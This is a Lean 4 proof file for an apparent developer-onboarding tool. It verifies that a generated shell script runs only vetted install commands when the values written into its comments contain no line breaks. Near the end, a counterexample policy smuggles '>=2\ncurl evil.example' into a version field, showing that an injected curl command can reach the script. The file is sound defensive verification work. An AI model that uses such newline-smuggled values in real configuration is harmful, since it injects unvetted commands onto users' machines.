import DevRepro.Generators.Onboarding
import DevRepro.Project.Compose
import DevRepro.Python.Words

/-!
# What an onboarding script runs

A reader of the script runs each line that is not blank and no comment.
`onlyVetted_iff` says when these are the preamble and commands of the table alone:
when no value that the script writes into a comment breaks its line.
-/

namespace DevRepro.Generators

open DevRepro.Python DevRepro.Lib DevRepro.Project DevRepro.Snapshots

/-! ## Lines -/

/-- The characters that end a line, for the shell of a platform: PowerShell takes a
carriage return for one as well. -/
def endsLine (platform : Str) (c : CodePoint) : Bool :=
  c == codePoint '\n' || (platform == lit "windows" && c == codePoint '\r')

/-- A line with something other than spaces and tabs. -/
def inkedLine (line : Str) : Bool := line.any fun c => c != codePoint ' ' && c != codePoint '\t'

/-- A value that a line can end with: behind its first break are only blank lines. -/
def Inert (platform : Str) (s : Str) : Prop :=
  ∀ line ∈ behind (endsLine platform) s, inkedLine line = false

variable (rt : Runtime)

/-- The lines of the script that are not blank are the starts of the lines that
the renderer writes, one for each; and those that are no comments are the preamble
and the commands of the table for what is missing, without those that run a
download. -/
structure OnlyVetted (report : ScanReport) (policy : Policy) (platform generatedAt : Str) :
    Prop where
  starts : activeLines (endsLine platform) inkedLine
      (renderOnboardingScript rt report policy platform generatedAt) =
    ((scriptLines rt report policy platform generatedAt).map
      (firstLine (endsLine platform))).filter inkedLine
  vetted : ∀ line ∈ linesOf (endsLine platform)
      (renderOnboardingScript rt report policy platform generatedAt),
    inkedLine line = true → line.head? ≠ some (codePoint '#') →
      (platform ≠ lit "windows" ∧ line = lit "set -euo pipefail") ∨
        ∃ item ∈ missingRequirements rt report policy,
          commandFor item.name platform = some line ∧ pipesDownload line = false

/-- The values that the script writes stay on their lines. -/
structure Confined (report : ScanReport) (policy : Policy) (platform generatedAt : Str) : Prop where
  version : Unbroken (endsLine platform) report.devreproVersion
  generatedAt : Inert platform generatedAt
  osName : Unbroken (endsLine platform) report.platform.osName
  arch : Unbroken (endsLine platform) report.platform.arch
  name : ∀ item ∈ missingRequirements rt report policy, Unbroken (endsLine platform) item.name
  detected : ∀ item ∈ missingRequirements rt report policy, ∀ version ∈ item.detected,
    Unbroken (endsLine platform) version
  required : ∀ item ∈ missingRequirements rt report policy, Inert platform item.required

/-! ## Texts of the renderer -/

/-- Printable characters end no line, on any platform. -/
theorem unbroken_of_printable {platform s : Str} (h : s.all isPrintableAscii = true) :
    Unbroken (endsLine platform) s := by
  intro c hc
  have hprintable := List.all_eq_true.mp h c hc
  simp only [isPrintableAscii, Bool.and_eq_true, decide_eq_true_eq] at hprintable
  have hnewline : c ≠ codePoint '\n' := by
    rintro rfl
    exact absurd hprintable (by decide)
  have hreturn : c ≠ codePoint '\r' := by
    rintro rfl
    exact absurd hprintable (by decide)
  simp [endsLine, hnewline, hreturn]

theorem inert_of_unbroken {platform s : Str} (h : Unbroken (endsLine platform) s) :
    Inert platform s := by
  intro line hline
  rw [h.behind] at hline
  cases hline

theorem inert_of_printable {platform s : Str} (h : s.all isPrintableAscii = true) :
    Inert platform s :=
  inert_of_unbroken (unbroken_of_printable h)

theorem inert_append_iff {platform s t : Str} (hs : s.all isPrintableAscii = true) :
    Inert platform (s ++ t) ↔ Inert platform t := by
  rw [Inert, behind_append (unbroken_of_printable hs)]
  exact Iff.rfl

/-- A value before more text of the renderer. -/
theorem inert_value_iff {platform mid : Str} (value t : Str) (hmid : mid.all isPrintableAscii = true)
    (hink : inkedLine mid = true) :
    Inert platform (value ++ (mid ++ t)) ↔
      Unbroken (endsLine platform) value ∧ Inert platform t := by
  refine forall_behind_iff (unbroken_of_printable hmid) (fun before after h => ?_) t
  rw [inkedLine, List.any_append, List.any_append] at h
  rw [inkedLine] at hink
  rw [hink] at h
  simp at h

/-- A value before the last text of the renderer. -/
theorem inert_before_iff {platform mid : Str} (value : Str) (hmid : mid.all isPrintableAscii = true)
    (hink : inkedLine mid = true) :
    Inert platform (value ++ mid) ↔ Unbroken (endsLine platform) value := by
  have h : Inert platform (value ++ (mid ++ [])) ↔ _ := inert_value_iff value [] hmid hink
  rw [List.append_nil] at h
  rw [h]
  exact and_iff_left (inert_of_unbroken unbroken_nil)

/-- The commands of the table are single lines. -/
theorem command_printable {name platform command : Str} (h : commandFor name platform = some command) :
    command.all isPrintableAscii = true := by
  have htable : installCommands.all (fun entry =>
      (entry.2.1.all fun s => s.all isPrintableAscii) &&
        (entry.2.2.1.all fun s => s.all isPrintableAscii) &&
          entry.2.2.2.all fun s => s.all isPrintableAscii) = true := by
    decide +kernel
  rw [commandFor] at h
  cases hfind : Dict.find? name installCommands with
  | none =>
    rw [hfind] at h
    cases h
  | some entry =>
    obtain ⟨windows, macos, linux⟩ := entry
    obtain ⟨item, hitem, hvalue⟩ := Option.map_eq_some_iff.mp hfind
    have hentry := List.all_eq_true.mp htable item (List.mem_of_find?_eq_some hitem)
    rw [hvalue, Bool.and_eq_true, Bool.and_eq_true] at hentry
    rw [hfind] at h
    dsimp only at h hentry
    split_ifs at h
    · rw [h] at hentry
      exact hentry.1.1
    · rw [h] at hentry
      exact hentry.1.2
    · rw [h] at hentry
      exact hentry.2

/-! ## The lines of the renderer -/

theorem preamble_inert (platform : Str) : ∀ entry ∈ preamble platform, Inert platform entry := by
  intro entry hentry
  have hall : (preamble platform).all (fun entry => entry.all isPrintableAscii) = true := by
    rw [preamble]
    split_ifs
    · decide +kernel
    · decide +kernel
  exact inert_of_printable (List.all_eq_true.mp hall entry hentry)

theorem header_inert_iff {report : ScanReport} {platform generatedAt : Str} :
    (∀ entry ∈ headerLines report generatedAt, Inert platform entry) ↔
      Unbroken (endsLine platform) report.devreproVersion ∧ Inert platform generatedAt ∧
        Unbroken (endsLine platform) report.platform.osName ∧
          Unbroken (endsLine platform) report.platform.arch := by
  have hplatform : ∀ os arch post : Str, post.all isPrintableAscii = true → inkedLine post = true →
      (Inert platform (os ++ (lit " " ++ (arch ++ post))) ↔
        Unbroken (endsLine platform) os ∧ Unbroken (endsLine platform) arch) := by
    -- The blank between them is no ink, so the two values are taken as one.
    intro os arch post hpost hink
    have hblank : Unbroken (endsLine platform) (lit " ") := unbroken_of_printable (by decide)
    rw [← List.append_assoc (lit " "), ← List.append_assoc, inert_before_iff _ hpost hink,
      unbroken_append, unbroken_append]
    exact ⟨fun h => ⟨h.1, h.2.2⟩, fun h => ⟨h.1, hblank, h.2⟩⟩
  rw [headerLines]
  simp only [List.forall_mem_cons]
  rw [inert_append_iff (by decide +kernel), inert_value_iff _ _ (by decide +kernel) (by decide +kernel),
    inert_append_iff (by decide +kernel), hplatform _ _ _ (by decide +kernel) (by decide +kernel)]
  constructor
  · rintro ⟨-, ⟨hversion, hgenerated⟩, ⟨hos, harch⟩, -⟩
    exact ⟨hversion, hgenerated, hos, harch⟩
  · rintro ⟨hversion, hgenerated, hos, harch⟩
    exact ⟨inert_of_printable rfl, ⟨hversion, hgenerated⟩, ⟨hos, harch⟩, inert_of_printable (by decide +kernel),
      inert_of_printable (by decide +kernel), inert_of_printable rfl, fun entry hentry => nomatch hentry⟩

/-- What the renderer says about a requirement stays on its line. -/
theorem line_inert_iff {platform : Str} {item : MissingRequirement} :
    Inert platform item.line ↔
      Unbroken (endsLine platform) item.name ∧
        (∀ version ∈ item.detected, Unbroken (endsLine platform) version) ∧
          Inert platform item.required := by
  rw [MissingRequirement.line]
  cases item.detected with
  | none =>
    dsimp only
    rw [inert_append_iff (by decide +kernel),
      inert_value_iff _ _ (by decide +kernel) (by decide +kernel)]
    simp
  | some version =>
    dsimp only
    rw [inert_append_iff (by decide +kernel),
      inert_value_iff _ _ (by decide +kernel) (by decide +kernel),
      inert_value_iff _ _ (by decide +kernel) (by decide +kernel)]
    simp

theorem itemLines_inert_iff {platform : Str} {item : MissingRequirement} :
    (∀ entry ∈ itemLines platform item, Inert platform entry) ↔ Inert platform item.line := by
  constructor
  · intro h
    exact h _ List.mem_cons_self
  · intro hline entry hentry
    have hname : Unbroken (endsLine platform) item.name := (line_inert_iff.mp hline).1
    rw [itemLines] at hentry
    rcases List.mem_cons.mp hentry with rfl | hentry
    · exact hline
    rcases List.mem_append.mp hentry with hentry | hentry
    · cases hcommand : commandFor item.name platform with
      | none =>
        rw [hcommand] at hentry
        rcases List.mem_cons.mp hentry with rfl | hentry
        · rw [inert_append_iff (by decide +kernel),
            inert_before_iff _ (by decide +kernel) (by decide +kernel)]
          exact hname
        · rw [List.mem_singleton.mp hentry]
          exact inert_of_printable (by decide +kernel)
      | some command =>
        have hfixed := command_printable hcommand
        rw [hcommand] at hentry
        dsimp only at hentry
        split_ifs at hentry
        · rcases List.mem_cons.mp hentry with hfirst | hentry
          · rw [hfirst]
            exact inert_of_printable (by decide +kernel)
          · rw [List.mem_singleton.mp hentry, inert_append_iff (by decide +kernel)]
            exact inert_of_printable hfixed
        · rw [List.mem_singleton.mp hentry]
          exact inert_of_printable hfixed
    · rw [List.mem_singleton.mp hentry]
      exact inert_of_printable rfl

/-- The lines of the renderer stay single exactly when its values are confined. -/
theorem scriptLines_inert_iff {report : ScanReport} {policy : Policy} {platform generatedAt : Str} :
    (∀ entry ∈ scriptLines rt report policy platform generatedAt, Inert platform entry) ↔
      Confined rt report policy platform generatedAt := by
  have hitems : (∀ entry ∈ (if missingRequirements rt report policy = [] then
        [lit "# Nothing to install: this machine already satisfies the policy.", []]
      else (missingRequirements rt report policy).flatMap (itemLines platform) ++
        [lit "# Then re-check: devrepro check"]), Inert platform entry) ↔
      ∀ item ∈ missingRequirements rt report policy, Inert platform item.line := by
    split_ifs with hmissing
    · rw [hmissing]
      refine iff_of_true (fun entry hentry => inert_of_printable ?_) fun item hitem => nomatch hitem
      rcases List.mem_cons.mp hentry with rfl | hentry
      · decide +kernel
      · rw [List.mem_singleton.mp hentry]
        rfl
    · simp only [List.forall_mem_append, List.mem_flatMap, List.forall_mem_singleton]
      constructor
      · intro h item hitem
        exact itemLines_inert_iff.mp fun entry hentry => h.1 entry ⟨item, hitem, hentry⟩
      · intro h
        refine ⟨?_, inert_of_printable (by decide +kernel)⟩
        rintro entry ⟨item, hitem, hentry⟩
        exact itemLines_inert_iff.mpr (h item hitem) entry hentry
  rw [scriptLines, List.forall_mem_append, List.forall_mem_append, header_inert_iff, hitems]
  constructor
  · rintro ⟨⟨-, hversion, hgenerated, hos, harch⟩, hitem⟩
    exact {
      version := hversion
      generatedAt := hgenerated
      osName := hos
      arch := harch
      name := fun item hmem => (line_inert_iff.mp (hitem item hmem)).1
      detected := fun item hmem => (line_inert_iff.mp (hitem item hmem)).2.1
      required := fun item hmem => (line_inert_iff.mp (hitem item hmem)).2.2 }
  · intro h
    refine ⟨⟨preamble_inert platform, h.version, h.generatedAt, h.osName, h.arch⟩, ?_⟩
    intro item hitem
    exact line_inert_iff.mpr ⟨h.name item hitem, h.detected item hitem, h.required item hitem⟩

/-! ## The script -/

/-- A line of the renderer is blank, a comment, the preamble or a command. -/
theorem scriptLines_kind {report : ScanReport} {policy : Policy} {platform generatedAt entry : Str}
    (h : entry ∈ scriptLines rt report policy platform generatedAt) :
    entry = [] ∨ entry.head? = some (codePoint '#') ∨
      (platform ≠ lit "windows" ∧ entry = lit "set -euo pipefail") ∨
        ∃ item ∈ missingRequirements rt report policy,
          commandFor item.name platform = some entry ∧ pipesDownload entry = false := by
  rw [scriptLines, List.mem_append, List.mem_append] at h
  rcases h with (h | h) | h
  · rw [preamble] at h
    split_ifs at h with hplatform
    · rw [List.mem_singleton.mp h]
      exact Or.inr (Or.inl rfl)
    · rcases List.mem_cons.mp h with rfl | h
      · exact Or.inr (Or.inl rfl)
      · exact Or.inr (Or.inr (Or.inl ⟨hplatform, List.mem_singleton.mp h⟩))
  · have hall : ∀ entry ∈ headerLines report generatedAt,
        entry = [] ∨ entry.head? = some (codePoint '#') := by
      rw [headerLines]
      simp only [List.forall_mem_cons]
      exact ⟨Or.inl trivial, Or.inr rfl, Or.inr rfl, Or.inr rfl, Or.inr rfl, Or.inl trivial,
        fun entry hentry => nomatch hentry⟩
    rcases hall entry h with hempty | hcomment
    · exact Or.inl hempty
    · exact Or.inr (Or.inl hcomment)
  · split_ifs at h with hmissing
    · rcases List.mem_cons.mp h with rfl | h
      · exact Or.inr (Or.inl rfl)
      · exact Or.inl (List.mem_singleton.mp h)
    rcases List.mem_append.mp h with h | h
    · obtain ⟨item, hitem, h⟩ := List.mem_flatMap.mp h
      rw [itemLines] at h
      rcases List.mem_cons.mp h with rfl | h
      · refine Or.inr (Or.inl ?_)
        rw [MissingRequirement.line]
        cases item.detected with
        | none => rfl
        | some version => rfl
      rcases List.mem_append.mp h with h | h
      · cases hcommand : commandFor item.name platform with
        | none =>
          rw [hcommand] at h
          rcases List.mem_cons.mp h with rfl | h
          · exact Or.inr (Or.inl rfl)
          · rw [List.mem_singleton.mp h]
            exact Or.inr (Or.inl rfl)
        | some command =>
          rw [hcommand] at h
          dsimp only at h
          split_ifs at h with hpipes
          · rcases List.mem_cons.mp h with hfirst | h
            · rw [hfirst]
              exact Or.inr (Or.inl (by decide +kernel))
            · rw [List.mem_singleton.mp h]
              exact Or.inr (Or.inl rfl)
          · rw [List.mem_singleton.mp h]
            exact Or.inr (Or.inr (Or.inr ⟨item, hitem, hcommand, eq_false_of_ne_true hpipes⟩))
      · exact Or.inl (List.mem_singleton.mp h)
    · rw [List.mem_singleton.mp h]
      exact Or.inr (Or.inl rfl)

theorem scriptLines_ne_nil (report : ScanReport) (policy : Policy) (platform generatedAt : Str) :
    scriptLines rt report policy platform generatedAt ≠ [] := by
  intro h
  rw [scriptLines, headerLines] at h
  simp at h

/-- The script runs nothing but its preamble and vetted commands, and no value starts
a line, exactly when the values that it writes into comments stay on their lines. -/
theorem onlyVetted_iff (report : ScanReport) (policy : Policy) (platform generatedAt : Str) :
    OnlyVetted rt report policy platform generatedAt ↔
      Confined rt report policy platform generatedAt := by
  have hnewline : endsLine platform (codePoint '\n') = true := by
    rw [endsLine, beq_self_eq_true, Bool.true_or]
  have hscript : renderOnboardingScript rt report policy platform generatedAt =
      unlines (codePoint '\n') (scriptLines rt report policy platform generatedAt) :=
    join_newline (scriptLines_ne_nil rt report policy platform generatedAt)
  have hstarts := @activeLines_unlines_eq_iff _ _ _ inkedLine hnewline rfl
    (scriptLines rt report policy platform generatedAt)
  rw [← hscript] at hstarts
  constructor
  · intro h
    exact (scriptLines_inert_iff rt).mp (hstarts.mp h.starts)
  · intro h
    have hown := hstarts.mpr ((scriptLines_inert_iff rt).mpr h)
    refine ⟨hown, fun line hline hink hcomment => ?_⟩
    -- A line with ink is the start of a line of the renderer.
    have hactive : line ∈ ((scriptLines rt report policy platform generatedAt).map
        (firstLine (endsLine platform))).filter inkedLine := by
      rw [← hown]
      exact List.mem_filter.mpr ⟨hline, hink⟩
    obtain ⟨entry, hentry, rfl⟩ := List.mem_map.mp (List.mem_filter.mp hactive).1
    rcases scriptLines_kind rt hentry with rfl | hhash | ⟨hplatform, rfl⟩ | ⟨item, hitem, hcommand, hpipes⟩
    · cases hink
    · cases entry with
      | nil => cases hhash
      | cons c rest =>
        obtain rfl : c = codePoint '#' := Option.some.inj hhash
        refine absurd ?_ hcomment
        have hhashline : Unbroken (endsLine platform) (lit "#") := unbroken_of_printable (by decide)
        rw [show codePoint '#' :: rest = lit "#" ++ rest from rfl, firstLine_append hhashline]
        rfl
    · have hprintable : Unbroken (endsLine platform) (lit "set -euo pipefail") :=
        unbroken_of_printable (by decide)
      rw [hprintable.firstLine]
      exact Or.inl ⟨hplatform, rfl⟩
    · have hprintable : Unbroken (endsLine platform) entry :=
        unbroken_of_printable (command_printable hcommand)
      rw [hprintable.firstLine]
      exact Or.inr ⟨item, hitem, hcommand, hpipes⟩

/-- A policy whose range goes on behind a line break. -/
def rangeWithCommand : Policy :=
  { Policy.default with requiredTools := Dict.empty.set "git" ">=2\ncurl evil.example" }

/-- A machine without tools. -/
def bareMachine : ScanReport :=
  ⟨"1.0", "2026-01-01T00:00:00Z", "0.2.0", ⟨"Linux", "6.5", "x86_64", none, none, false⟩, [], [],
    none, [], false, none, [], none, none, none, []⟩

/-- The range of a policy becomes a command of the script. -/
theorem range_becomes_command : ¬OnlyVetted .standard bareMachine rangeWithCommand "linux" "now" := by
  intro h
  have hentry : lit "# git: not installed, policy requires >=2\ncurl evil.example" ∈
      scriptLines .standard bareMachine rangeWithCommand "linux" "now" := by
    have hsorted : sortedItems rangeWithCommand.requiredTools =
        [(lit "git", lit ">=2\ncurl evil.example")] := List.mergeSort_singleton _
    have hmissing : missingRequirements .standard bareMachine rangeWithCommand =
        [⟨"git", ">=2\ncurl evil.example", none⟩] := by
      have hempty : sortedItems rangeWithCommand.requiredRuntimes = [] := List.mergeSort_nil
      rw [missingRequirements, List.flatMap_cons, List.flatMap_singleton, hsorted, hempty]
      rfl
    rw [scriptLines, hmissing]
    refine List.mem_append_right _ (List.mem_append_left _ ?_)
    rw [List.flatMap_singleton]
    exact List.mem_cons_self
  have hline : lit "curl evil.example" ∈ linesOf (endsLine "linux")
      (renderOnboardingScript .standard bareMachine rangeWithCommand "linux" "now") := by
    have hscript : renderOnboardingScript .standard bareMachine rangeWithCommand "linux" "now" =
        unlines (codePoint '\n') (scriptLines .standard bareMachine rangeWithCommand "linux" "now") :=
      join_newline (scriptLines_ne_nil _ _ _ _ _)
    rw [hscript, linesOf_unlines (by decide)]
    refine List.mem_append_left _ (List.mem_flatMap.mpr ⟨_, hentry, ?_⟩)
    decide +kernel
  rcases h.vetted _ hline (by decide) (by decide) with ⟨-, hpreamble⟩ | ⟨item, -, hcommand, -⟩
  · exact absurd hpreamble (by decide)
  · have htable : installCommands.all (fun entry =>
        entry.2.2.2 != some (lit "curl evil.example")) = true := by decide +kernel
    rw [commandFor] at hcommand
    cases hfind : Dict.find? item.name installCommands with
    | none =>
      rw [hfind] at hcommand
      cases hcommand
    | some entry =>
      obtain ⟨found, hfound, rfl⟩ := Option.map_eq_some_iff.mp hfind
      have hentry := List.all_eq_true.mp htable found (List.mem_of_find?_eq_some hfound)
      rw [hfind] at hcommand
      dsimp only at hcommand
      rw [if_neg (by decide), if_neg (by decide)] at hcommand
      simp [hcommand] at hentry

end DevRepro.Generators
